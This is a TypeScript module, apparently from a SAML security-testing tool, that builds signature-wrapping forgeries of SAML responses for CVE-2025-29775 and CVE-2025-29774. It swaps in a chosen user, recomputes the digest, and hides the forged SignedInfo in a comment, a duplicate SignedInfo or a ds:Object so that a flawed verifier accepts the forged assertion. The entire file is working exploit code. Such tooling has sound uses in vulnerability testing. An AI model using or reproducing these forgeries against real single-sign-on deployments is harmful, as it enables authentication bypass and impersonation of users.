import { createHash } from 'node:crypto'
import type { Facts } from '../step.ts'
import { elementNamed, insertedAt, replacedBy, textOf, without } from './element-text.ts'
import { rewrite, userReplaced } from './rewrite.ts'

/** The message with a forged user, and the signature that should cover it, with the digest that the forged text has. */
interface Forged {
  readonly xml: string
  readonly signedInfo: string
  readonly forgedDigest: string
}

const DIGEST = /(<(?:\w+:)?DigestValue>)([^<]*)/

/** What is signed stands in canonical form, so that its text without the signature is what was digested. */
function forge(xml: string, facts: Facts): Forged {
  const signature = elementNamed(xml, 'Signature')
  const assertion = elementNamed(xml, 'Assertion')
  const inAssertion = assertion.start < signature.start && signature.end < assertion.end
  const forged = userReplaced(xml, facts)
  const covered = textOf(forged, elementNamed(forged, inAssertion ? 'Assertion' : 'Response'))
  const text = without(covered, elementNamed(covered, 'Signature'))
  const signedInfo = textOf(forged, elementNamed(forged, 'SignedInfo'))
  return {
    xml: forged,
    signedInfo,
    forgedDigest: createHash('sha256').update(text).digest('base64'),
  }
}

/** The digest of the forged text stands in a comment before the signed one. @see CVE-2025-29775 */
export const digestInComment = rewrite(
  'the digest of a forged assertion stands in a comment before the signed one',
  (xml, facts) => {
    const forged = forge(xml, facts)
    const signedInfo = forged.signedInfo.replace(DIGEST, `$1<!--${forged.forgedDigest}-->$2`)
    return replacedBy(forged.xml, elementNamed(forged.xml, 'SignedInfo'), signedInfo)
  },
)

/**
 * The signature is that of a captured message, whole; the SignedInfo of the forged one stands in an Object behind it.
 * @see CVE-2025-29774
 */
export const signatureOfCaptured = rewrite(
  'the signature is that of a LogoutResponse, and the SignedInfo of a forged assertion stands in its Object',
  (xml, facts) => {
    const [captured] = facts.captured ?? []
    if (captured === undefined) throw new RangeError('no earlier message of the scene was captured')
    const forged = forge(xml, facts)
    const signedInfo = forged.signedInfo.replace(DIGEST, (_, tag: string) => `${tag}${forged.forgedDigest}`)
    const signature = textOf(captured, elementNamed(captured, 'Signature'))
    const end = elementNamed(signature, 'Signature').close
    const both = insertedAt(signature, end, `<ds:Object>${signedInfo}</ds:Object>`)
    return replacedBy(forged.xml, elementNamed(forged.xml, 'Signature'), both)
  },
)

const twoSignedInfos = (title: string, order: (forged: string, signed: string) => string) =>
  rewrite(title, (xml, facts) => {
    const { xml: text, signedInfo, forgedDigest } = forge(xml, facts)
    const second = signedInfo.replace(DIGEST, (_, tag: string) => `${tag}${forgedDigest}`)
    return replacedBy(text, elementNamed(text, 'SignedInfo'), order(second, signedInfo))
  })

/** @see CVE-2025-29774 */
export const forgedSignedInfo = {
  first: twoSignedInfos(
    'a SignedInfo of a forged assertion stands before the signed one',
    (forged, signed) => forged + signed,
  ),
  last: twoSignedInfos(
    'a SignedInfo of a forged assertion stands behind the signed one',
    (forged, signed) => signed + forged,
  ),
} as const

/**
 * Both digests are true: the forged SignedInfo covers the forged assertion, the signed one the original that stands in the
 * same Object. Whoever takes the first Reference below the Signature for what is signed takes the forged one.
 * @see CVE-2025-29774
 */
export const signedInfoInObject = rewrite(
  'a SignedInfo of a forged assertion stands in an Object, with the signed assertion, before the signed SignedInfo',
  (xml, facts) => {
    const span = elementNamed(xml, 'Assertion')
    const signed = textOf(xml, span)
    const signature = textOf(signed, elementNamed(signed, 'Signature'))
    const original = without(signed, elementNamed(signed, 'Signature'))
    const forged = userReplaced(original, facts).replace(/(\sID="[^"]*)"/, '$1-forged"')
    const { start } = elementNamed(signature, 'SignedInfo')
    const signedInfo = textOf(signature, elementNamed(signature, 'SignedInfo'))
      .replace(/(\sURI="[^"]*)"/, '$1-forged"')
      .replace(DIGEST, (_, tag: string) => `${tag}${createHash('sha256').update(forged).digest('base64')}`)
    const object = `<ds:Object>${signedInfo}${original}</ds:Object>`
    const holder = insertedAt(signature, start, object)
    return replacedBy(xml, span, insertedAt(forged, elementNamed(forged, 'Issuer').end, holder))
  },
)
